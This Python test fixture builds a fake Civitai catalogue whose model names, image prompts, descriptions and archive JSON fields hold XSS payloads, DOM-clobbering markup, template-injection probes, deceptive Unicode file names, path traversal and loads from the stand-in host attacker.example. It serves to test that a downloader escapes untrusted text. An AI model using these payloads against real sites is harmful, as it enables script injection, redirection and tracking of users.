"""A Civitai whose names, prompts and descriptions try to run something in a browser."""

from __future__ import annotations

import json
from pathlib import Path

from civitai_dl.testing import FakeFile, FakeImage, FakeModel, FakeVersion, World

FIRST = 400_001
JS = "window.ran=1,alert(1)"
AWAY = "http://attacker.example"

TEXTS = (
    f"<script>{JS}</script>",
    f'"><img src=x onerror="{JS}">',
    f"'><svg onload='{JS}'>",
    f"</title><script>{JS}</script>",
    f"</textarea></select></style><script>{JS}</script>",
    f"<!--><img src=x onerror={JS}>-->",
    "{{7*7}} {% for x in y %} ${7*7} <%= 7*7 %>",
    f'" autofocus tabindex=1 onfocus="{JS}" x="',
    f"` onmouseover={JS} x=`",
    f"javascript:{JS}//",
    f"data:text/html,<script>{JS}</script>",
    "invoice\u202egnp.exe\u2066\u200b",
    f"&lt;script&gt;{JS}&lt;/script&gt; &#34;&#x3e;",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    f'<base href="{AWAY}/"><link rel=prefetch href="{AWAY}/p">',
    f'\\"-{JS}-\\"\';{JS}//',
    f"</code></p></a></dialog><form action={AWAY}/><button>go",
    f'<a id="lightbox" name="results" class="unveil" data-copy="x" href="{AWAY}">clobbered</a>',
    f"<img src={AWAY}/pixel.png srcset={AWAY}/2.png>",
)
"""What stands where plain text belongs."""

HTML = (
    f"<script>{JS}</script><SCRIPT SRC={AWAY}/x.js></SCRIPT><script type=module>{JS}</script>",
    (
        f"<h1 onclick='{JS}' onmouseover={JS} style='background:url({AWAY}/bg)'>handlers</h1>"
        f"<img src=x onerror={JS}><body onload={JS}><input autofocus onfocus={JS}>"
        f"<details open ontoggle={JS}>x</details><video src=x onerror={JS}></video>"
    ),
    (
        f"<a href='javascript:{JS}'>one</a><a href='&#106;avascript:{JS}'>two</a>"
        f"<a href=' java\tscript:{JS}'>three</a><a href='data:text/html,"
        f"<script>{JS}</script>'>4</a>"
        f"<a href='vbscript:x'>5</a><a href='https://civitai.com/' ping='{AWAY}/ping'>6</a>"
    ),
    (
        f"<svg onload={JS}><script>{JS}</script><a xlink:href='javascript:{JS}'><text>s</text></a>"
        f"<use href='data:image/svg+xml,<svg onload={JS}>'/><animate onbegin={JS} attributeName=x>"
        f"<foreignObject><iframe src='javascript:{JS}'></iframe></foreignObject></svg>"
    ),
    (
        f"<iframe src='javascript:{JS}'></iframe><iframe srcdoc='<script>{JS}</script>'></iframe>"
        f"<iframe src='{AWAY}/frame'></iframe><object data='{AWAY}/o'></object>"
        f"<embed src='{AWAY}/e'>"
        f"<portal src='{AWAY}'></portal><frameset onload={JS}><applet code=x></applet>"
    ),
    (
        f"<style>@import url({AWAY}/i.css);body{{background:url({AWAY}/bg);display:none}}</style>"
        f"<link rel=stylesheet href={AWAY}/s.css><link rel=dns-prefetch href={AWAY}>"
        f"<p style='position:fixed;inset:0;background:url({AWAY}/p)'>covered</p>"
    ),
    (
        f"<meta http-equiv=refresh content='0;url={AWAY}/'><base href='{AWAY}/'>"
        f"<form action='{AWAY}/'><input name=q>"
        f"<button formaction='javascript:{JS}'>go</button></form>"
        f"<isindex action={AWAY}><keygen autofocus onfocus={JS}>"
    ),
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={JS}"
        f"&gt;'><math><mi//xlink:href='data:x,<script>{JS}</script>'></math>"
    ),
    (
        f"<noscript><p title='</noscript><img src=x onerror={JS}>'></noscript>"
        f"<template><img src=x onerror={JS}></template><xmp><p title='</xmp>"
        f"<img onerror={JS} src=x>'>"
        f"<!--<img src='--><img src=x onerror={JS}//'><![CDATA[<script>{JS}</script>]]>"
    ),
    (
        f"<img src='{AWAY}/pixel.gif' srcset='{AWAY}/2x 2x'><video poster='{AWAY}/p.png' autoplay>"
        f"<source src='{AWAY}/v.mp4'></video><audio src='{AWAY}/a.mp3' autoplay></audio>"
        f"<table background='{AWAY}/t.png'><tr><td>x</td></tr></table><picture>"
        f"<source srcset={AWAY}>"
    ),
    (
        "<a id=said name=body>1</a><form id=results name=documentElement>"
        "<input name=children></form>"
        "<img id=mature name=querySelector><div class='unveil veiled shot open' data-copy='evil' "
        "data-more data-grid>2</div><dialog id=lightbox open><div class=stage></div></dialog>"
    ),
    f"</div></section></main></body></html><script>{JS}</script><plaintext><b>the rest",
)
"""What stands where a description belongs."""


def hostile_world() -> World:
    """One model for each text, and images whose prompts are the same texts."""
    world = World()
    for place, text in enumerate(TEXTS):
        world.model(_model(place, text))
    for place, text in enumerate(TEXTS):
        version = world.models[place].versions[0]
        world.image(
            FakeImage(
                "png",
                username="mallory",
                version_ids=(version.id,),
                meta={
                    "prompt": f"trick{place} {text}",
                    "negativePrompt": text,
                    "sampler": text,
                    text: text,
                    "resources": [{"name": text, "type": text, "weight": 1}],
                    "comfy": text,
                },
            )
        )
    return world


def _model(place: int, text: str) -> FakeModel:
    return FakeModel(
        FIRST + place,
        text,
        "mallory" if place % 2 else "Trent",
        description=f"<p>before</p>{HTML[place % len(HTML)]}<p>after</p>",
        tags=(text, f"tag{place}"),
        versions=[
            FakeVersion(
                f"{text} v2",
                files=[FakeFile(f"{text}.safetensors", 4000 + place)],
                images=[FakeImage("png")],
                description=HTML[(place + 5) % len(HTML)],
                base_model=text,
                trained_words=[text, f"word{place}"],
            ),
            FakeVersion("v1", files=(), images=()),
        ],
    )


def make_worse(archive: Path) -> None:
    """Write into the documents of an archive what no service would send: anybody can edit them."""
    for place, text in enumerate(TEXTS):
        number = FIRST + place
        path = archive / f"model_{number // 1000}" / str(number) / "model.json"
        model = json.loads(path.read_text("utf-8"))
        model["type"] = text
        model["creator"] = {"username": f"{text}/../{place}", "image": f"{AWAY}/avatar.png"}
        for version in model["modelVersions"]:
            version["publishedAt"] = text
            for file in version["files"]:
                file["type"] = file["pickleScanResult"] = file["virusScanResult"] = text
                file["metadata"] = {"format": text}
            for image in version["images"]:
                image["meta"] = {"prompt": text, "Model": text}
                image["width"] = image["height"] = text
        if place == 0:
            model["tags"] = ["nul\0bell\a", "half \ud800 of a sign", "\udfff", "\u202ertl"]
            model["name"] += " \0\x1b[31m"
        path.write_text(json.dumps(model), "utf-8")
    for place, path in enumerate(sorted(archive.glob("model_*/*/gallery/*/*.json"))):
        image = json.loads(path.read_text("utf-8"))
        image["username"] = TEXTS[place % len(TEXTS)]
        path.write_text(json.dumps(image), "utf-8")
